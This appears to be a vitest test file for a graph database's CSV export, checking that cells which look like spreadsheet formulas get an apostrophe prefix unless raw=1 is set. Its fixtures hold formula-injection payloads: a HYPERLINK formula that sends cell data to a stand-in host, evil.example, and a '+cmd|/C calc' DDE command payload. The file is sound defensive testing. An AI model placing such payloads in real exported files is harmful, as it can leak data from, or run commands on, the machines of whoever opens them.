// CSV exports are opened in spreadsheets: a text cell that starts like a formula must not run as
// one (issue 10). By default such cells get a leading apostrophe; `raw=1` keeps them exact for a
// byte-for-byte neo4j-admin round trip.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvFiles, resolveScope } from '../../src/io/export/index.js';
import { parseExportQuery } from '../../src/io/export/request.js';
import { startHarness, type Harness } from '../helpers/harness.js';

let h: Harness;
beforeAll(async () => {
  h = await startHarness();
  await h.load({
    format: 'zanjir/1',
    nodes: [
      { id: 'mine:formula', kind: 'Mine', name: '=HYPERLINK("http://evil.example/?"&A1,"click")', nameFa: 'معدن', province: '+cmd|/C calc!A0', commodity: '-2+3', note: '@SUM(1)', aliases: ['=1+1', 'plain'] },
      { id: 'product:ore-x', kind: 'Product', name: 'Ore', nameFa: 'سنگ', unitValueUsd: -0 === 0 ? 40 : 40 },
    ],
    edges: [{ type: 'EXTRACTS', from: 'mine:formula', to: 'product:ore-x', capacityTpy: 1000, note: '\tTAB' }],
  });
});
afterAll(async () => {
  await h.close();
});

async function file(name: string, query: string): Promise<string> {
  const scope = await resolveScope(h.db.executor, parseExportQuery(new URLSearchParams(query)));
  for await (const f of csvFiles(h.db.executor, scope)) {
    let text = '';
    for await (const chunk of f.chunks) text += chunk;
    if (f.name === name) return text;
  }
  throw new Error(`no ${name}`);
}

describe('CSV export and spreadsheet formulas', () => {
  it('prefixes every text cell that would run as a formula, and leaves numbers alone', async () => {
    const mines = await file('nodes-Mine.csv', '');
    const row = mines.split('\n')[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(row).toContain("'+cmd|/C calc!A0");
    expect(row).toContain("'-2+3");
    expect(row).toContain("'@SUM(1)");
    expect(row).toContain("'=1+1;plain");
    expect(row).not.toMatch(/(^|,)[=+\-@]/);
    const extracts = await file('relationships-EXTRACTS.csv', '');
    expect(extracts).toContain(",1000,");
    expect(extracts).toContain("'\tTAB");
  });

  it('keeps cells exact with raw=1', async () => {
    const row = (await file('nodes-Mine.csv', 'raw=1')).split('\n')[1]!;
    expect(row).toContain('"=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(row).toContain(',+cmd|/C calc!A0,');
  });
});
